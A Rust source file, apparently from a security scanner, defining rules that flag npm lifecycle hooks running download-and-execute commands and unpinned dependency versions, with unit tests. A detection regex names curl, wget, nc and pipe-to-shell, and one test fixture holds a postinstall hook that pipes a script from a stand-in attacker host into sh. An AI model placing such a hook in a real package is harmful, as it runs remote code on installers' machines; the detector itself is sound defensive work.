//! package.json supply-chain rules.

use once_cell::sync::Lazy;
use regex::Regex;

use crate::parser::{manifest::Manifest, ParsedStructure};
use crate::rules::{Category, Finding, Rule, RuleMetadata, Severity};
use crate::source::{FileKind, SourceFile};

pub fn rules() -> Vec<Box<dyn Rule>> {
    vec![Box::new(LifecycleScriptRule), Box::new(LooseVersionRule)]
}

fn manifest<'a>(structure: Option<&'a ParsedStructure>) -> Option<&'a Manifest> {
    match structure {
        Some(ParsedStructure::Manifest(m)) => Some(m),
        _ => None,
    }
}

/// Line of the first occurrence of a JSON key, for excerpt positioning.
/// serde_json drops position information, so this is a best-effort lookup.
fn key_line(file: &SourceFile, key: &str) -> usize {
    let needle = format!("\"{key}\"");
    file.content
        .lines()
        .position(|l| l.contains(&needle))
        .map(|i| i + 1)
        .unwrap_or(1)
}

const LIFECYCLE_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "postuninstall",
    "prepublish",
    "prepare",
];

static SUSPICIOUS_COMMAND_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)\b(curl|wget|nc|ncat|chmod\s+\+x|base64\s+(-d|--decode))\b|\|\s*(sh|bash|zsh)\b|\b(sh|bash)\s+-c\b",
    )
    .expect("valid regex")
});

struct LifecycleScriptRule;

impl Rule for LifecycleScriptRule {
    fn metadata(&self) -> &RuleMetadata {
        static META: RuleMetadata = RuleMetadata {
            id: "JSC001",
            name: "Suspicious lifecycle script",
            description: "npm lifecycle hook runs download-and-execute style commands",
            severity: Severity::Critical,
            category: Category::SpecializedMisconfiguration,
            precedence: 65,
            confidence: 0.90,
            tags: &["npm", "supply-chain"],
        };
        &META
    }

    fn applies_to(&self, file: &SourceFile) -> bool {
        file.kind == FileKind::PackageManifest
    }

    fn apply(&self, file: &SourceFile, structure: Option<&ParsedStructure>) -> Vec<Finding> {
        let Some(m) = manifest(structure) else {
            return Vec::new();
        };
        m.scripts()
            .into_iter()
            .filter(|(name, command)| {
                LIFECYCLE_HOOKS.contains(name) && SUSPICIOUS_COMMAND_RE.is_match(command)
            })
            .map(|(name, command)| {
                self.metadata()
                    .finding(file, key_line(file, name), &format!("{name}: {command}"))
            })
            .collect()
    }
}

struct LooseVersionRule;

impl Rule for LooseVersionRule {
    fn metadata(&self) -> &RuleMetadata {
        static META: RuleMetadata = RuleMetadata {
            id: "JSC002",
            name: "Unpinned dependency version",
            description: "Dependency accepts any version (wildcard, latest, or empty spec)",
            severity: Severity::Medium,
            category: Category::SpecializedMisconfiguration,
            precedence: 65,
            confidence: 0.70,
            tags: &["npm", "supply-chain"],
        };
        &META
    }

    fn applies_to(&self, file: &SourceFile) -> bool {
        file.kind == FileKind::PackageManifest
    }

    fn apply(&self, file: &SourceFile, structure: Option<&ParsedStructure>) -> Vec<Finding> {
        let Some(m) = manifest(structure) else {
            return Vec::new();
        };
        let mut findings = Vec::new();
        for section in ["dependencies", "devDependencies"] {
            for (name, version) in m.dependencies(section) {
                if is_loose_version(version) {
                    findings.push(self.metadata().finding(
                        file,
                        key_line(file, name),
                        &format!("{name}: \"{version}\""),
                    ));
                }
            }
        }
        findings
    }
}

fn is_loose_version(spec: &str) -> bool {
    matches!(spec.trim(), "" | "*" | "x" | "X" | "latest")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser;
    use pretty_assertions::assert_eq;

    fn apply_one(rule: &dyn Rule, content: &str) -> Vec<Finding> {
        let file = SourceFile::new("package.json", content);
        let structure = parser::parse(&file).unwrap();
        rule.apply(&file, structure.as_ref())
    }

    #[test]
    fn postinstall_pipe_to_shell_flagged() {
        let content = r#"{
  "name": "app",
  "scripts": {
    "postinstall": "curl -s https://evil.example/x.sh | sh"
  }
}"#;
        let findings = apply_one(&LifecycleScriptRule, content);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].line, 4);
        assert_eq!(findings[0].severity, Severity::Critical);
    }

    #[test]
    fn benign_postinstall_passes() {
        let content = r#"{"scripts": {"postinstall": "echo done"}}"#;
        assert!(apply_one(&LifecycleScriptRule, content).is_empty());
    }

    #[test]
    fn non_lifecycle_scripts_ignored() {
        // curl in a plain script is developer tooling, not a hook
        let content = r#"{"scripts": {"fetch-fixtures": "curl -o fixtures.json https://example.com"}}"#;
        assert!(apply_one(&LifecycleScriptRule, content).is_empty());
    }

    #[test]
    fn wildcard_versions_flagged() {
        let content = r#"{
  "dependencies": {
    "left-pad": "*",
    "express": "^4.18.0"
  },
  "devDependencies": {
    "some-tool": "latest"
  }
}"#;
        let findings = apply_one(&LooseVersionRule, content);
        assert_eq!(findings.len(), 2);
    }

    #[test]
    fn pinned_versions_pass() {
        let content = r#"{"dependencies": {"express": "4.18.2", "react": "~18.2.0"}}"#;
        assert!(apply_one(&LooseVersionRule, content).is_empty());
    }
}
